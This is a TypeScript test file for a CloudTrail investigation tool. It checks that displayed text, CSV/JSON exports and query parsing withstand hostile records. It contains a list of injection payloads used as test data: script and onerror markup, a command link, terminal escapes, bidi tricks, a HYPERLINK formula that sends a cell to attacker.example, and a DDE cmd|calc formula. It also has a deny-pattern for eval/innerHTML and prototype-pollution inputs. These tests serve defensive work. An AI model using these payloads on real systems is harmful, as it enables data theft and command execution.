import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterEach, describe, expect, test } from "vitest";
import { eventsAsText } from "../../src/investigation/eventsAsText.ts";
import { drawEvent, linkedJson } from "../../src/investigation/eventView.ts";
import { RESULT_COLUMNS, resultRow } from "../../src/investigation/resultRow.ts";
import type { FoundEvent } from "../../src/investigation/search.ts";
import { findEntities } from "../../src/model/findEntities.ts";
import { type CloudTrailEvent, type LookupEnvelope, readRecord } from "../../src/model/record.ts";
import { compile } from "../../src/query/match.ts";
import { parseQuery } from "../../src/query/text.ts";
import { end, production, smallWorld } from "../unit/aws-wire/smallWorld.ts";
import type { World } from "../world/types.ts";
import { crowdOf } from "./crowd.ts";
import { idsOf, openStack, type Stack } from "./stack.ts";

/** Controls, format characters (bidirectional ones among them), line and paragraph separators, lone surrogates. */
const misleading = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;

const hostile: readonly (readonly [string, string])[] = [
  ["markup", "<img src=x onerror=alert(1)><script>alert(2)</script>"],
  ["a command link", "[click](command:workbench.action.terminal.new) ![x](https://attacker.example/x.png)"],
  ["backticks and line breaks", "``` \r\n# heading\r> quote\n```"],
  ["ANSI and OSC-8", "\u001b[31mred\u001b[0m \u001b]8;;https://attacker.example\u0007link\u001b]8;;\u0007"],
  ["bidirectional overrides", "invoice\u202efdp.exe \u2066isolated\u2069 \u200emark"],
  ["invisible characters", "ad\u200bmin\u00ad\u2060\ufeff\u{e0041}\u{e007f}"],
  ["line separators", "one\u2028two\u2029three\u0085four"],
  ["lone surrogates", "\ud800 \udc00 x"],
  ["a formula", '=HYPERLINK("https://attacker.example?"&A1,"click")'],
  ["another formula", "@SUM(1+1)*cmd|' /C calc'!A0"],
];

/** A record that says it everywhere where a person may read it. */
function recordSaying(text: string): string {
  return JSON.stringify({
    eventVersion: "1.11",
    eventID: `id ${text}`,
    eventTime: "2026-11-01T11:00:00Z",
    eventName: text,
    eventSource: `${text}.amazonaws.com`,
    awsRegion: text,
    sourceIPAddress: text,
    userAgent: text,
    errorCode: text,
    errorMessage: text,
    requestID: text,
    eventType: text,
    sharedEventID: text,
    vpcEndpointId: text,
    recipientAccountId: text,
    userIdentity: {
      type: "AssumedRole",
      principalId: `AROAIOSFODNN7EXAMPLE:${text}`,
      arn: `arn:aws:sts::111122223333:assumed-role/${text}/${text}`,
      accountId: text,
      accessKeyId: text,
      invokedBy: text,
      onBehalfOf: { userId: text, identityStoreArn: text },
      sessionContext: {
        sessionIssuer: { type: "Role", userName: text, arn: `arn:aws:iam::111122223333:role/${text}` },
        sourceIdentity: text,
        webIdFederationData: { federatedProvider: text },
      },
    },
    requestParameters: {
      bucketName: text,
      roleName: text,
      functionName: text,
      instanceId: `i-0abc ${text}`,
      tags: [text],
    },
    responseElements: { ConsoleLogin: "Failure", arn: `arn:aws:s3:::${text}` },
    resources: [{ ARN: `arn:aws:s3:::${text}`, type: text, accountId: text }],
  });
}

function envelopeSaying(text: string): LookupEnvelope {
  return { eventId: `id ${text}`, username: text, accessKeyId: text, resources: [{ name: text, type: text }] };
}

const around = (event: CloudTrailEvent) => ({
  entities: findEntities(event),
  seenIn: [{ profile: "production", region: "eu-west-1", source: "eventHistory" }],
  hasConsolePage: () => false,
  timeZone: "Europe/Berlin",
});

function found(event: CloudTrailEvent): FoundEvent {
  return { event, seenIn: [] };
}

/** The cells of CSV (RFC 4180), by row. */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, after] of csv
    .replace(/^\ufeff/, "")
    .matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? "");
    if (after === "\r\n") {
      rows.push([]);
    }
  }
  return rows.filter((row) => row.length > 1);
}

describe("what an event says (9, 10, 11, 12)", () => {
  test.each(hostile)("%s: every text is one line of plain characters", (_, text) => {
    const event = readRecord(recordSaying(text), { envelope: envelopeSaying(text) });
    const row = resultRow(event, (time) => new Date(time).toISOString());
    const { json, links, ...drawn } = drawEvent(event, around(event));
    const texts = [
      ...Object.values(row.cells),
      row.tooltip,
      drawn.title,
      drawn.source,
      drawn.sentence,
      drawn.outcome.label,
      drawn.outcome.message ?? "",
      ...drawn.facts.flatMap(({ label, value, note }) => [label, value, note ?? ""]),
      ...drawn.groups.flatMap(({ title, entities }) => [
        title,
        ...entities.flatMap(({ label, value, detail }) => [label, value, detail ?? ""]),
      ]),
    ];
    expect(texts.filter((each) => misleading.test(each))).toEqual([]);
    // Nothing is dropped either: what is visible of it stands in the places that matter.
    const [start = ""] = text.split(misleading).filter((part) => part.trim() !== "");
    for (const said of [row.cells.user, row.cells.eventName, row.cells.error, row.tooltip, drawn.sentence]) {
      expect(said).toContain(start);
    }
    expect(drawn.facts.length).toBeGreaterThan(10);
    // The record itself stays to the letter: the views escape what they show of it.
    expect(JSON.parse(json)).toEqual(JSON.parse(event.raw));
    expect(links.length).toBeGreaterThan(3);
  });

  test("nothing in the package trusts Markdown, HTML or code out of a text", () => {
    const root = fileURLToPath(new URL("../../src/", import.meta.url));
    const files = readdirSync(root, { recursive: true, encoding: "utf8" }).filter((name) => /\.(?:ts|mjs)$/.test(name));
    expect(files.length).toBeGreaterThan(80);
    const dangerous =
      /isTrusted|supportHtml|enableCommandUris: true|innerHTML|outerHTML|insertAdjacentHTML|unsafeHTML|\beval\(|new Function\(/;
    expect(files.filter((name) => dangerous.test(readFileSync(join(root, name), "utf8")))).toEqual([]);
  });
});

describe("exported (20)", () => {
  const starts = [
    "=1+1",
    "+1",
    "-1",
    "@x",
    "\t=1",
    "\r=1",
    "  =1",
    "\n=1",
    "＝1",
    "＠x",
    "'=1",
    '"=1',
    "\u200b=1",
    "%=1",
  ];

  test.each(starts)("%j in every column begins no formula", (text) => {
    const events = [readRecord(recordSaying(text)), readRecord(recordSaying(`${text}","=2`))].map(found);
    const rows = parseCsv(eventsAsText(events, "csv"));
    expect(rows.map((row) => row.length)).toEqual([0, 1, 2].map(() => RESULT_COLUMNS.length + 1));
    const cells = rows.flat();
    expect(cells.filter((cell) => /^\s*[=+\-@＝＋－＠\t\r\n]/u.test(cell))).toEqual([]);
    expect(cells.filter((cell) => misleading.test(cell))).toEqual([]);
  });

  test("as JSON: one file that reads back, whatever one record is", () => {
    const raws = [
      recordSaying("plain"),
      '\ufeff{"eventID":"with a byte order mark","eventName":"x"}',
      '{"eventID":"cut o',
      "",
      "not JSON at all",
      '{"eventID":"digits","eventName":"x","requestParameters":{"n":12345678901234567890,"x":1e400}}',
      '{"eventID":"twice","eventName":"x","a":1,"a":2}',
    ];
    const text = eventsAsText(
      raws.map((raw) => found(readRecord(raw))),
      "json",
    );
    const file = JSON.parse(text) as { readonly Records: readonly { readonly eventID?: string }[] };
    expect(file.Records).toHaveLength(raws.length);
    expect(file.Records[1]?.eventID).toBe("with a byte order mark");
    expect(text).toContain("12345678901234567890");
    expect(text).toContain("1e400");
    expect(text).toContain('"a":1,"a":2');
  });

  test("as ids: a line each", () => {
    const events = ["one\ntwo", "three"].map((eventID) => found(readRecord({ eventID, eventName: "x" })));
    expect(eventsAsText(events, "ids").split("\n")).toHaveLength(2);
  });
});

let stack: Stack | undefined;

afterEach(async () => {
  await stack?.close();
  stack = undefined;
});

/** Three events on the wire, the second of which has this text for a record. */
function worldWith(json: string): World {
  const world = crowdOf({ events: 3 });
  const records = [...world.records()].map((record) => (record.eventId === "e1" ? { ...record, json } : record));
  return { ...world, records: () => records };
}

describe("records that are no trees of a reasonable size (16, 18, 19)", () => {
  const nested = (depth: number) =>
    `{"eventID":"e1","eventName":"PutObject","requestParameters":${'{"a":'.repeat(depth)}"arn:aws:s3:::deep"${"}".repeat(depth)}}`;

  test("200,000 deep: one diagnostic, the others load, and it can be shown and exported", async () => {
    stack = await openStack({ world: worldWith(nested(200_000)) });
    const search = await stack.prepare();
    expect((await idsOf(search)).sort()).toEqual(["e0", "e1", "e2"]);
    const events = search.found.map(({ event }) => event);
    expect(events.map(({ eventId, diagnostics }) => [eventId, diagnostics.length]).sort()).toEqual([
      ["e0", 0],
      ["e1", expect.any(Number)],
      ["e2", 0],
    ]);
    const deep = events.find(({ eventId }) => eventId === "e1") ?? readRecord("");
    expect(deep.diagnostics.map(({ code }) => code)).toContain("unreadable");
    expect(deep.raw).toHaveLength(nested(200_000).length);
    const drawn = drawEvent(deep, around(deep));
    expect(drawn.json).toBe(deep.raw);
    expect(resultRow(deep, String).eventId).toBe("e1");
    expect(eventsAsText(search.found, "json")).toContain(deep.raw);
    // It comes back from the shelf as it was.
    const again = await stack.prepare({ to: "30s" });
    await idsOf(again);
    expect(again.found.find(({ event }) => event.eventId === "e1")?.event.raw).toBe(deep.raw);
  });

  test.each([99, 101, 300, 399, 401])("%d deep: no link stands where its text does not", (depth) => {
    const raw = nested(depth).replace("{", '{"sourceIPAddress":"203.0.113.9",');
    const event = readRecord(raw);
    const entities = findEntities(event);
    const { json, links } = linkedJson(event.raw, entities);
    expect(links.map(({ start, end, entity }) => [json.slice(start, end), entities[entity]?.value])).toEqual(
      links.map(({ entity }) => [entities[entity]?.value, entities[entity]?.value]),
    );
    expect(entities.length > 0).toBe(depth < 400);
    expect(links.length > 0).toBe(depth < 100);
  });

  test.each(["", ',"digits":12345678901234567890'])("__proto__ and constructor are keys like others (%j)", (more) => {
    const raw = `{"eventID":"e1","eventName":"PutObject","eventSource":"s3.amazonaws.com","eventVersion":"1.11","awsRegion":"eu-west-1","__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},"requestParameters":{"__proto__":{"polluted":"yes","bucketName":"b"},"toString":"x","hasOwnProperty":1${more}}}`;
    const event = readRecord(raw, { envelope: { resources: [{ name: "__proto__", type: "constructor" }] } });
    const drawn = drawEvent(event, around(event));
    resultRow(event, String);
    eventsAsText([found(event)], "csv");
    const matching = ["requestParameters.__proto__.polluted:yes", "yes", "__proto__", "resource:__proto__"].filter(
      (text) => {
        const { condition } = parseQuery(text, { now: end }).query;
        return condition !== undefined && compile(condition)(event);
      },
    );
    expect(matching).toContain("yes");
    expect(matching).toContain("resource:__proto__");
    expect(Reflect.get({}, "polluted")).toBeUndefined();
    expect(Reflect.get(Object, "polluted")).toBeUndefined();
    expect(drawn.json).toContain('"__proto__": {');
    expect(drawn.json).toContain('"hasOwnProperty": 1');
    expect(event.actor.name).not.toBe("");
  });

  test("duplicate keys, 1e400, digits beyond 2^53 and negative zero: shown exactly as they came", () => {
    const raw =
      '{"eventID":"e1","eventName":"x","requestParameters":{"n":9007199254740993,"m":-12345678901234567890,"x":1e400,"y":-0,"z":1.10,"bucketName":"first","bucketName":"second"}}';
    const event = readRecord(raw);
    const { json, links, groups } = drawEvent(event, around(event));
    for (const exact of ['"n": 9007199254740993', '"m": -12345678901234567890', '"x": 1e400', '"y": -0', '"z": 1.10']) {
      expect(json).toContain(exact);
    }
    expect(json).toContain('"bucketName": "first"');
    expect(event.diagnostics.map(({ code }) => code)).toContain("duplicate-keys");
    expect(event.record.requestParameters).toMatchObject({ n: "9007199254740993", x: "1e400" });
    const buckets = groups.flatMap(({ entities }) => entities).filter(({ kind }) => kind === "bucket");
    expect(buckets.map(({ value }) => value)).toEqual(["second"]);
    const [bucket] = buckets;
    const linked = links
      .filter(({ entity }) => entity === bucket?.id)
      .map(({ start, end: past }) => json.slice(start, past));
    expect(linked).toEqual(["second"]);
  });

  test("lone surrogates and a byte order mark: the same reading every time, over the wire and from the shelf", async () => {
    const raw =
      '\ufeff{"eventID":"e1","eventName":"PutObject","awsRegion":"eu-west-1","userIdentity":{"type":"IAMUser","userName":"a\\ud800b"},"requestParameters":{"bucketName":"x\\udc00y"}}';
    stack = await openStack({ world: worldWith(raw) });
    const first = await stack.prepare();
    await idsOf(first);
    const before = stack.lookups();
    const second = await stack.prepare({ to: "30s" });
    await idsOf(second);
    const third = await stack.prepare({ to: "30s" });
    await idsOf(third);
    expect(stack.lookups()).toBeGreaterThanOrEqual(before);
    const readings = [first, second, third].map(
      (search) => search.found.find(({ event }) => event.eventId === "e1")?.event,
    );
    expect(readings[0]?.raw).toBe(raw);
    expect(readings[0]?.actor.userName).toBe("a\ud800b");
    expect(readings[1]).toEqual(readings[0]);
    expect(readings[2]).toEqual(readings[0]);
  });

  test("records that are none: each is a row with a diagnostic", async () => {
    for (const json of [
      "",
      "null",
      "7",
      '"text"',
      "[]",
      "{}",
      "{",
      "\u0000",
      '{"eventID":{"a":1},"eventName":["x"]}',
    ]) {
      stack = await openStack({ world: worldWith(json) });
      const search = await stack.prepare();
      const ids = await idsOf(search);
      // AWS itself leaves out an empty text.
      expect(ids.length, json).toBeGreaterThanOrEqual(json === "" ? 2 : 3);
      for (const { event } of search.found) {
        drawEvent(event, around(event));
        resultRow(event, String);
        if (event.raw === json) {
          expect(event.diagnostics.length, json).toBeGreaterThan(0);
        }
      }
      await stack.close();
      stack = undefined;
    }
  });
});

describe("a person's own filter (22)", () => {
  const event = readRecord({
    eventID: "1",
    eventName: "a".repeat(50_000),
    eventSource: "s3.amazonaws.com",
    awsRegion: "eu-west-1",
    userIdentity: { type: "IAMUser", userName: "a".repeat(50_000) },
    requestParameters: { text: "ab".repeat(50_000) },
  });
  const many = (count: number, write: (index: number) => string, between: string) =>
    Array.from({ length: count }, (_, index) => write(index)).join(between);

  // What grows faster than its input would not come back from these for hours.
  test.each<[string, string, boolean | undefined]>([
    ["stars without end", `user:${"*a".repeat(5_000)}*b`, false],
    ["stars and question marks", `user:${"*a?".repeat(3_000)}b`, false],
    ["stars in free text", `"${"*a".repeat(5_000)}*z"`, false],
    ["10,000 terms, any of them", many(10_000, (index) => `user:u${index}`, " OR "), false],
    ["10,000 terms, none of them", many(10_000, (index) => `-user:u${index}`, " "), true],
    ["10,000 values in a list", `event:(${many(10_000, (index) => `e${index}`, ",")})`, false],
    ["10,000 words", many(10_000, (index) => `word${index}`, " "), false],
    ["10,000 paths with stars", many(10_000, (index) => `requestParameters.x${index}:*a*b*c`, " OR "), false],
    ["10,000 networks", many(10_000, (index) => `ip:10.${index % 250}.0.0/16`, " OR "), false],
    ["3,000 groups to multiply out", many(3_000, (index) => `(user:u${index} OR event:e${index})`, " "), false],
    [
      "a negation over all of them",
      `NOT (${many(3_000, (index) => `(user:u${index} OR NOT event:e${index})`, " ")})`,
      false,
    ],
    ["50,000 parentheses", `${"(".repeat(50_000)}user:x${")".repeat(50_000)}`, undefined],
    ["50,000 negations", `${"NOT ".repeat(50_000)}user:x`, false],
    ["a quote that never ends", '"'.repeat(99_999), undefined],
    ["10,000 unknown fields", many(10_000, (index) => `usr${index}:x`, " "), undefined],
  ])(
    "%s: read, planned and matched in bounded time",
    (_, text, expected) => {
      const { query, problems } = parseQuery(text, { now: end });
      const matched =
        problems.length > 0 || query.condition === undefined ? undefined : compile(query.condition)(event);
      expect(matched).toBe(expected);
    },
    10_000,
  );

  test("10,000 users are asked of AWS in one stream, not in 10,000", async () => {
    stack = await openStack({ world: smallWorld() });
    const search = await stack.prepare({ text: `user:(${many(10_000, (index) => `u${index}`, ",")},bob)` });
    expect(search.plan.sentence.length).toBeLessThan(1_000);
    await idsOf(search);
    expect(stack.lookups()).toBe(3);
    expect(stack.aws.requests.list({ operation: "LookupEvents" })[0]?.accountId).toBe(production.id);
  });
});
